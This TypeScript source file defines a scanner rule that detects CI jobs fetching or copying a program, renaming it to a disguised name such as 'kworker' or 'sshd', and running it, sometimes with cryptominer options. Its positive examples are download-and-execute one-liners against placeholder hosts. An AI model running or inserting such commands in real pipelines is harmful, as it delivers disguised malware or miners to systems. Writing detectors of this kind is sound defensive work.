import {
  type CommandPassage,
  type FetchPassage,
  type JobView,
  runsBrought,
} from '../engine/job-view.ts';
import { type MiningOptions, miningOptions } from '../engine/options.ts';
import { programName } from '../engine/program.ts';
import type { Match, Rule } from '../engine/rule.ts';
import { WEIGHTS } from '../engine/weights.ts';
import { DISGUISES } from '../indicators/disguises.ts';

const DISGUISE: ReadonlySet<string> = new Set(DISGUISES);
const COPIERS: ReadonlySet<string> = new Set(['mv', 'cp', 'ln', 'install']);

/** A program is fetched or copied, given another name, and run under it. */
export const renamedBinary: Rule = {
  id: 'renamed-binary',
  title: 'A program runs under a name that is not its own',
  severity: 'medium',
  confidence: 'medium',
  maturity: 'stable',
  group: 'delivery',
  // What is fetched is a candidate already.
  atoms: [],
  hits: [
    {
      what: 'as a worker of the runner',
      script:
        'curl -sLo Runner.Worker https://a.test/a && chmod +x Runner.Worker && ./Runner.Worker',
    },
    {
      what: 'as a thread of the kernel',
      script: 'wget -qO /tmp/kworker https://203.0.113.9/k; chmod +x /tmp/kworker; /tmp/kworker',
    },
    {
      what: 'moved to a known name',
      script: 'wget -q https://a.test/a.tgz && tar xf a.tgz && mv a/b ./sshd && ./sshd',
    },
    {
      what: "another name and a miner's options",
      script: 'curl -Lo app https://a.test/v1; chmod +x app; ./app -t 2 --cpu-priority 5',
    },
  ],
  innocents: [
    {
      what: 'a tool kept under a short name',
      script: 'curl -Lo kind https://a.test/kind-linux-amd64 && chmod +x kind && ./kind version',
    },
    { what: 'a script', script: 'cp ci/test.sh /tmp/t.sh && bash /tmp/t.sh' },
    { what: 'the real program', script: 'apt-get install -y haproxy && haproxy -f h.cfg' },
    { what: 'a build of it', script: 'make && cp build/nginx ./nginx && ./nginx -t' },
    { what: 'a file that is not run', script: 'curl -Lo java https://a.test/jdk.tgz' },
    {
      what: 'an archive of the real one',
      script:
        'curl -LO https://a.test/node-v24.tgz && tar xf node-v24.tgz && ./node-v24/bin/node a.js',
    },
  ],
  look(view: JobView): readonly Match[] {
    if (view.fetched.length === 0) return [];
    const copied = copiedFiles(view);
    return view.commands.flatMap((command) => renamedMatch(command, view, copied));
  },
};

function renamedMatch(
  command: CommandPassage,
  view: JobView,
  copied: ReadonlyMap<string, number>,
): readonly Match[] {
  if (!runsBrought(command, view)) return [];
  const fetch = view.fetched.find(({ name, order }) => {
    return name === command.program && order <= command.order;
  });
  const isCopy = (copied.get(command.program) ?? Infinity) <= command.order;
  const isRenamed = fetch ? !isNamedAlike(fetch) : isCopy;
  if (!isRenamed) return [];
  const isDisguised = DISGUISE.has(command.program);
  if (!isDisguised && !isShaped(miningOptions(command.arguments, view.indicators))) return [];
  const evidence = fetch ? `${fetch.url} as ${command.text}` : command.text;
  const bits = isDisguised ? WEIGHTS.disguise : WEIGHTS.renamedAndShaped;
  return [{ passage: command, bits, evidence, role: 'sign' }];
}

/** Names that `mv`, `cp` or `ln` gave to files of other names, with the order of the first time. */
function copiedFiles({ commands }: JobView): ReadonlyMap<string, number> {
  const copied = new Map<string, number>();
  for (const { program, order, arguments: given } of commands) {
    if (!COPIERS.has(program)) continue;
    const files = given.filter((word) => !word.startsWith('-'));
    const [from, to] = [programName(files[0] ?? ''), programName(files.at(-1) ?? '')];
    if (files.length >= 2 && from !== to && !copied.has(to)) copied.set(to, order);
  }
  return copied;
}

/** `kind-linux-amd64` kept as `kind`. */
function isNamedAlike({ url, name }: FetchPassage): boolean {
  return url.toLowerCase().includes(name);
}

/** It is told where to connect and as whom, or given several of a miner's other options. */
function isShaped(options: MiningOptions): boolean {
  const { endpoint, hasLogin, companions, minerOnly, hasAlgorithm } = options;
  if (minerOnly > 0 || hasAlgorithm) return true;
  return endpoint !== null ? hasLogin || companions > 0 : companions >= 2;
}
